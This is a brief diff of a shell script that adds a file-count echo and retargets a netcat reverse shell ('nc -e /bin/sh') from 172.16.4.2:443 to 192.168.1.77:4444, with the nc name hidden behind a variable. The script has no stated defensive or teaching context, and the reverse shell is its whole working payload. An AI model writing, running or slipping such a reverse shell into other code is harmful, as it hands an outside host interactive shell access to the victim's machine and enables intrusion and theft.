@@ -1,3 +1,6 @@
-#!/usr/bin/env bash
+#!/bin/sh
+set -eu
+count=$(ls | wc -l)
+echo "files: $count"
 N=nc
-$N -e /bin/sh 172.16.4.2 443
+$N -e /bin/sh 192.168.1.77 4444
